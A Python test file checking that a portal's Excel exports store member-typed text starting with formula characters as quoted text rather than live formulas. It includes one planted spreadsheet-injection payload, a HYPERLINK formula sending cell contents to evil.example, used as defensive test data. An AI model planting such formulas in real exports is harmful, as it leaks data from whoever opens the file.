"""Excel exports: what members typed stays text, never a live formula."""

import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cppcc_portal.exports import xlsx_bytes
from proposals import services
from proposals.models import ProposalCategory

ROOT = Path(__file__).resolve().parents[2]
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_text_starting_like_a_formula_is_written_as_quoted_text(trigger):
    typed = f"{trigger}SUM(1,2)"
    content = xlsx_bytes("导出", ["案由"], [[typed], ["普通标题"]])
    assert "<f>" not in sheet_xml(content)
    cell = load_workbook(io.BytesIO(content))["导出"]["A2"]
    # A CR comes back as written (lxml) or as LF (the standard library's XML parser).
    assert cell.value in (typed, typed.replace("\r", "\n")) and cell.data_type == "s" and cell.quotePrefix


def test_the_proposal_export_keeps_a_planted_formula_as_text(demo, login):
    services.proposal_create(
        actor=demo["member1"],
        title=PLANTED,
        category=ProposalCategory.objects.first(),
        background="情况",
        suggestions="建议",
        period="plenary",
        co_signers=[],
    )
    response = login("member1").get("/proposals/export/")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert "<f>" not in sheet_xml(content)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == PLANTED]
    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_every_export_goes_through_the_one_escaping_writer():
    """No module builds its own workbook, which would skip the escaping."""
    writers = [
        path.relative_to(ROOT).as_posix()
        for app in ("cppcc_portal", "members", "proposals", "consultations", "liaison_stations")
        for path in (ROOT / app).rglob("*.py")
        if any(maker in path.read_text(encoding="utf-8") for maker in ("Workbook(", "xl/worksheets/"))
    ]
    assert writers == ["cppcc_portal/exports.py"]
